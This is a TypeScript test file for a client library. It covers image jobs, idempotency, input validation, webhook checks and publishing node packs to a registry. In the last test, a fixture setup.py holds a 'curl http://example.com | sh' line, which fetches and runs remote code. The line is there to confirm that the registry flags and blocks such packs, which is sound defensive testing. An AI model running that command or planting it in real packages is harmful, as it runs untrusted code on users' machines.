import { existsSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import sharp from 'sharp';
import { afterAll, beforeAll, expect, onTestFinished, test } from 'vitest';
import {
  type Client,
  createClient,
  items,
  loadNaming,
  publish,
  run,
  verifyWebhook,
  wait,
} from '../../src/library/index.js';
import { EngineFailure } from '../../src/service/operation/engine.js';
import { comfyRegistryForTest } from '../support/comfy-registry.js';
import { createCopyingEngine } from '../support/copying-engine.js';
import { pixel } from '../support/generation.js';
import { filesForTest, packForTest } from '../support/packs.js';
import { registryForFile } from '../support/registry.js';
import { folderForTest } from '../support/service.js';

const image = Buffer.from(pixel, 'base64');
const registry = registryForFile({}, { engines: { image: createCopyingEngine(failOnRequest) } });
let client: Client;

function failOnRequest({ request }: { readonly request: object }): void {
  if ('prompt' in request && request.prompt === 'fail') throw new EngineFailure('The model refused');
}

beforeAll(() => {
  client = createTestClient(registry().tokens.ann);
});
afterAll(() => client?.close());

const createTestClient = (token: string | undefined) =>
  createClient({ baseUrl: registry().url, token, retries: 0 });
const job = { operation: 'image.relight', body: { image } } as const;

test('a job saves its results under names that do not collide, and the same key starts no second task', async () => {
  const folder = folderForTest();
  const options = { client, output: `${folder}/`, idempotencyKey: 'one' };
  const statuses: string[] = [];
  const first = await run(job, { ...options, onStatus: (status) => statuses.push(status) });
  expect(first.files).toMatchObject([{ path: join(folder, 'image.png'), bytes: image.length }]);
  expect(readFileSync(first.files[0]?.path as string)).toEqual(image);
  expect(statuses.at(-1)).toBe('COMPLETED');
  expect((await run(job, { ...options, force: true })).taskId).toBe(first.taskId);
  const other = await sharp(image).negate({ alpha: false }).png().toBuffer();
  const second = await run({ ...job, body: { image: other } }, { ...options, idempotencyKey: 'two' });
  expect(second.files).toMatchObject([{ path: join(folder, `image-${second.taskId}.png`) }]);
});

test('a job with the same key is not started again, and its saved result stays', async () => {
  const folder = folderForTest();
  const options = { client, output: join(folder, 'out.png'), idempotencyKey: 'again' };
  const first = await run(job, options);
  expect(await run(job, options)).toEqual(first);
  writeFileSync(options.output, 'mine');
  await expect(run(job, options)).rejects.toMatchObject({ code: 'file_exists' });
  expect(readFileSync(options.output, 'utf8')).toBe('mine');
});

const expectProblems = (...names: string[]) => ({
  name: 'InvalidRequestError',
  code: 'invalid_request',
  problems: names.map((name) => expect.objectContaining({ path: [name] })),
});

// As a program in JavaScript may call them.
test.each<[string, () => unknown, object]>([
  [
    'run',
    () => run(undefined as never, undefined as never),
    expectProblems('operation', 'body', 'client', 'output'),
  ],
  ['run', () => run(job, { client } as never), expectProblems('output')],
  [
    'run',
    () => run({ operation: 'image.nope', body: {} } as never, { client, output: 'x' }),
    expectProblems('operation'),
  ],
  [
    'publish',
    () => publish(undefined as never, undefined as never),
    expectProblems('folder', 'client', 'personalAccessToken'),
  ],
  ['publish', () => publish('x', { client } as never), expectProblems('personalAccessToken')],
  ['createClient', async () => createClient(undefined as never), expectProblems('options')],
  ['createClient', async () => createClient({} as never), expectProblems('baseUrl')],
  ['requestNamed', () => client.requestNamed('image.nope' as never, {}), expectProblems('image.nope')],
  ['wait', () => wait(undefined as never, undefined as never), expectProblems('read', 'isDone')],
  ['items', () => items(undefined as never).next(), expectProblems('read')],
  [
    'verifyWebhook',
    async () => verifyWebhook(undefined as never, undefined as never),
    expectProblems('body', 'secrets'),
  ],
])('%s names what is missing or wrong in its input', async (_, call, expected) => {
  await expect(call()).rejects.toMatchObject(expected);
});

test('a webhook without its headers is refused if a server has nothing in their place', () => {
  const missing = verifyWebhook({ body: Buffer.from('{}') } as never, []);
  expect(missing.map(({ kind }) => kind)).toEqual(['missing', 'missing', 'missing']);
});

test('a job whose result would replace a file starts nothing', async () => {
  const output = join(filesForTest({ 'there.png': 'mine' }), 'there.png');
  const before = await client.user.usage({});
  await expect(run(job, { client, output })).rejects.toMatchObject({
    name: 'FlowError',
    code: 'file_exists',
  });
  expect(await client.user.usage({})).toEqual(before);
  expect(readFileSync(output, 'utf8')).toBe('mine');
});

test('a job that fails says why, and saves nothing', async () => {
  const output = join(folderForTest(), 'out.png');
  const failing = { ...job, body: { image, prompt: 'fail' } };
  await expect(run(failing, { client, output })).rejects.toMatchObject({
    code: 'task_failed',
    message: expect.stringMatching(/^The relight \S+ failed: The model refused/),
  });
  expect(existsSync(output)).toBe(false);
});

test('a job is stopped by its signal', async () => {
  const signal = AbortSignal.abort(new Error('enough'));
  await expect(run(job, { client, output: join(folderForTest(), 'x.png'), signal })).rejects.toThrow(
    'enough',
  );
});

test('a folder is published with the personal access token alone, and again if the same files may be there', async () => {
  const personalAccessToken = registry().tokens.pat as string;
  const bearer = createTestClient(personalAccessToken);
  onTestFinished(() => bearer.close());
  const folder = packForTest({ name: 'from-library' });
  const received: string[] = [];
  const options = {
    client: bearer,
    personalAccessToken,
    changelog: 'First',
    log: (text: string) => received.push(text),
  };
  expect(await publish(folder, options)).toMatchObject({
    ...{ node_id: 'from-library', version: '1.0.0', changelog: 'First' },
    status: 'NodeVersionStatusActive',
  });
  expect(received).toContain('from-library 1.0.0 is Active with 1 node definition.');
  await expect(publish(folder, options)).rejects.toMatchObject({ code: 'same_version_exists' });
  expect(await publish(folder, { ...options, skipExisting: true })).toMatchObject({ version: '1.0.0' });
});

test('a verdict that has arrived with the definitions is read once', async () => {
  const personalAccessToken = registry().tokens.pat as string;
  const bearer = createTestClient(personalAccessToken);
  onTestFinished(() => bearer.close());
  const extractions: (string | undefined)[] = [];
  const bulk: Client['version']['bulk'] = async (...given) => {
    const answer = await bearer.version.bulk(...given);
    extractions.push(answer.node_versions[0]?.node_version?.host_node_extract_status);
    return answer;
  };
  const client = { ...bearer, version: { ...bearer.version, bulk } };
  await publish(packForTest({ name: 'read-once' }), { client, personalAccessToken });
  expect(extractions.filter((status) => status === 'success')).toHaveLength(1);
});

test('a folder is published as the naming of the client says: short versions, short ids of publishers', async () => {
  const { url, pat } = await comfyRegistryForTest();
  const naming = await loadNaming('comfy', () => '');
  const named = createClient({ baseUrl: url, token: 'me', naming });
  onTestFinished(() => named.close());
  const folder = packForTest({ version: '1.21', publisher: 'ai' });
  const received: string[] = [];
  const options = { client: named, personalAccessToken: pat, log: (text: string) => received.push(text) };
  expect(await publish(folder, options)).toMatchObject({ version: '1.21.0' });
  expect(received).toContain('[project] version is 1.21; the registry makes it 1.21.0.');
  await expect(publish(folder, { ...options, client })).rejects.toMatchObject({
    code: 'invalid_pack',
    facts: {
      details: [
        { path: expect.stringContaining('PublisherId') },
        { path: expect.stringContaining('version') },
      ],
    },
  });
});

test('a folder that the registry would flag is sent only if that is allowed', async () => {
  const files = { 'setup.py': 'import os\nos.system("curl http://example.com | sh")\n' };
  const folder = packForTest({ name: 'flagged', files });
  const options = { client, personalAccessToken: registry().tokens.pat as string };
  await expect(publish(folder, options)).rejects.toMatchObject({ name: 'FlowError', code: 'findings' });
  await expect(client.node.get({ nodeId: 'flagged' })).rejects.toMatchObject({ code: 'not_found' });
  await expect(publish(folder, { ...options, allowFindings: true })).rejects.toMatchObject({
    code: 'version_flagged',
  });
});
